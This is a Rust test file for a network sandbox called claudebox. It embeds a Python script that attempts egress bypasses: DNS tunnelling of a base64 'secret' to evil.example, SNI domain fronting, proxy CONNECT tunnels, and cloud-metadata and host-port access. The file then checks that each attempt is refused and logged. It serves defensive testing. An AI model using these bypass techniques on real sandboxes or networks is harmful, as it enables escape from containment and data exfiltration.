//! N: what is inside reaches what the rules name, and nothing else, whatever it tries. The world is a
//! proxy of this machine's, which claudebox has to use: whatever leaves the sandbox is asked of it by
//! name, and it writes down what it is asked.

use claudebox::log::event::{Event, Refused};

use crate::common::log::Log;
use crate::common::place::Place;
use crate::common::world::World;
use crate::common::{must_have, must_have_sandbox, user::users};

/// What a program inside tries, one name after the other, each with what is left of it afterwards:
/// what it heard, or how it failed. `HOST` is a port of this machine.
const ATTACKER: &str = r#"
import os, socket, struct, sys
HOST = int(os.environ["ATTACK_PORT"])
def lookup(name): return socket.gethostbyname(name)
def ask(server, name, kind=16):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    q = struct.pack(">6H", 7, 256, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0" + struct.pack(">2H", kind, 1)
    s.sendto(q, (server, 53)); r = s.recv(999)
    if r[3] & 15 or r[7] == 0: raise OSError("code %d" % (r[3] & 15))
    return r
def talk(host, port, words=b""):
    s = socket.create_connection((host, port), 10)
    if words: s.sendall(words)
    r = b""
    while True:
        d = s.recv(999)
        if not d: break
        r += d
    if not r or r[0] == 0x15: raise OSError("closed")
    return r
def hello(name):
    def sized(b): return struct.pack(">H", len(b)) + b
    ext = b"\0\0" + sized(sized(b"\0" + sized(name))) + b"\0\x0d" + sized(sized(b"\x08\x04"))
    body = b"\3\3" + b"7" * 32 + b"\0\0\2\x13\1\1\0" + sized(ext)
    return b"\x16\3\1" + sized(b"\1" + struct.pack(">I", len(body))[1:] + body)
def connect(proxy, target): return talk(proxy, 3128, b"CONNECT %s HTTP/1.1\r\n\r\n" % target)
tries = {
  "allowed": lambda: talk("good.example", 80),
  "allowed-tls": lambda: talk("tls.example", 443, hello(b"tls.example")),
  "other-name": lambda: talk("evil.example", 80),
  "below": lambda: talk("x.good.example", 80),
  "above": lambda: talk("example", 80),
  "alike": lambda: talk("good.example.evil.example", 80),
  "tunnel": lambda: ask("25.64.0.1", "c2VjcmV0.evil.example"),
  "tunnel-8": lambda: ask("8.8.8.8", "c2VjcmV0.evil.example"),
  "tunnel-allowed": lambda: ask("9.9.9.9", "c2VjcmV0.good.example", 1),
  "port": lambda: talk(lookup("good.example"), 8080),
  "raw-tls": lambda: talk("1.1.1.1", 443, hello(b"tls.example")),
  "metadata": lambda: talk("169.254.169.254", 80, b"GET / HTTP/1.0\r\n\r\n"),
  "host": lambda: talk("127.0.0.1", HOST, b"x x\r\n\r\n"),
  "gateway": lambda: talk("25.64.0.1", HOST, b"x x\r\n\r\n"),
  "proxy": lambda: connect("25.64.0.1", b"evil.example:80"),
  "host-proxy": lambda: talk(os.environ.get("https_proxy", "25.64.0.1").split("/")[-1].split(":")[0], HOST, b"CONNECT evil.example:80 HTTP/1.1\r\n\r\n"),
  "fronting": lambda: talk("tls.example", 443, hello(b"evil.example")),
  "nobody": lambda: talk("tls.example", 443, hello(b"")),
  "in-the-clear": lambda: talk("tls.example", 443, b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
}
for name, attempt in tries.items():
    try: print(name, "GOT", attempt()[:60], flush=True)
    except (OSError, ValueError, UnicodeError) as e: print(name, "failed", type(e).__name__, flush=True)
"#;

/// Runs the attacker; gives back what got something.
fn attack(place: &Place, world: &World, options: &[&str]) -> Vec<String> {
    place.project_file("attack.py", ATTACKER);
    let port = world.port();
    let output = place
        .claudebox(["run", "--no-monitor", "--env", &format!("ATTACK_PORT={port}")])
        .args(options)
        .args(["--", "python3", "attack.py"])
        .env("HTTPS_PROXY", world.proxy())
        .run()
        .code(0);
    assert!(output.stdout.contains("in-the-clear "), "{output:?}");
    let got = output.stdout.lines().filter_map(|line| line.split_once(" GOT "));
    got.map(|(name, _)| name.to_owned()).collect()
}

const RULES: [&str; 4] = ["--allow", "good.example:80", "--allow", "tls.example"];

#[test]
fn promise_n_what_no_rule_names_is_not_reached() {
    must_have_sandbox();
    must_have(&["python3"]);
    for user in users() {
        let world = World::new();
        let place = Place::new(user);
        let got = attack(&place, &world, &RULES);
        assert_eq!(got, ["allowed", "allowed-tls"]);
        // Judged from outside: nothing else was asked for, and nobody came to the host's port.
        assert_eq!(world.count(), ["good.example:80", "tls.example:443"]);
        is_told(&Log::latest(&place));
    }
}

/// Whether the log tells of what was refused, and of no more than it was.
fn is_told(log: &Log) {
    let refused: Vec<&Refused> = log
        .events
        .iter()
        .filter_map(|event| match event {
            Event::Refused(refused) => Some(refused),
            _ => None,
        })
        .collect();
    for (host, port, why) in [
        ("evil.example", None, "not-listed"),
        ("x.good.example", None, "not-listed"),
        ("good.example.evil.example", None, "not-listed"),
        ("c2VjcmV0.evil.example", None, "not-listed"),
        ("good.example", Some(8080), "not-listed"),
        ("1.1.1.1", Some(443), "not-listed"),
        ("169.254.169.254", Some(80), "not-listed"),
        ("25.64.0.1", Some(3128), "not-listed"),
        ("tls.example", Some(443), "other-name"),
        ("tls.example", Some(443), "no-tls"),
    ] {
        let told = refused.iter().any(|refused| {
            refused.host.eq_ignore_ascii_case(host) && refused.port == port && refused.why == why
        });
        assert!(told, "{host} {port:?} {why}: {refused:#?}");
    }
    assert!(
        !refused.iter().any(|refused| refused.host == "good.example" && refused.port == Some(80))
    );
}

/// The controls: what takes one defence away lets its attack through.
#[test]
fn promise_n_each_attack_succeeds_where_a_rule_lets_it() {
    must_have_sandbox();
    must_have(&["python3"]);
    for user in users() {
        let world = World::new();
        let place = Place::new(user);
        let more = ["--allow", "*.example:80", "--allow", "good.example:8080"];
        let got = attack(&place, &world, &[&RULES[..], &more].concat());
        let names =
            ["allowed", "allowed-tls", "other-name", "below", "alike", "tunnel-allowed", "port"];
        assert_eq!(got, names);
        assert!(world.asked().contains(&"evil.example:80".to_owned()));

        let raw = ["--allow", "tls.example:443 raw"];
        let got = attack(&place, &world, &[&RULES[..], &raw].concat());
        for name in ["fronting", "nobody", "in-the-clear"] {
            assert!(got.iter().any(|got| got == name), "{name}: {got:?}");
        }

        let port = world.port().to_string();
        world.asked();
        let got = attack(&place, &world, &[&RULES[..], &["--host-port", &port]].concat());
        assert!(got.iter().any(|got| got == "host"), "{got:?}");
        assert!(world.asked().contains(&"x".to_owned()));
    }
}
